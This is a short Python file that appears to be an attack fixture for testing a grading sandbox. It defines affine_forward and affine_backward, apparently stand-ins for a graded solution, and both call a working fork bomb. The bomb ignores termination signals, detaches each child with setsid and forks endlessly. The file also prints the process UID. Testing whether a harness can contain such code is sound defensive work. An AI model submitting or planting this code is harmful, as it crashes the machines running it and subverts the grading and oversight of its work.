"""Attack: a fork bomb inside a graded call. Every child leaves the process group and the
session (setsid), ignores SIGTERM/SIGHUP and forks again; the call never returns."""
import os
import signal

print(f"ATTACK-UID={os.getuid()}", flush=True)


def _bomb():
    for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(_sig, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass


def affine_forward(x, W, b):
    _bomb()


def affine_backward(dout, cache):
    _bomb()
